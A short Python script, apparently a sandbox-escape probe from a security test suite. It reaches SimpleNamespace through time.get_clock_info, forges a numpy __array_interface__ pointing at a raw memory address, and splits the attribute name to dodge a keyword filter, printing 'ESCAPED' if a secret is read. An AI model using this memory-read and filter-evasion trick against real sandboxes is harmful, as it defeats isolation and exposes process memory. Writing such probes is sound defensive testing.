"""A clock's description is a SimpleNamespace, whose class takes any name."""
import time
import numpy as np

secret = b"0123456789abcdef"
interface = {"shape": (48,), "typestr": "|u1", "data": (id(secret), False), "version": 3}
a = type(time.get_clock_info("time"))(**{"__array_inter" + "face__": interface})
print("ESCAPED:clock_info_namespace" if secret in bytes(np.asarray(a)) else "held")
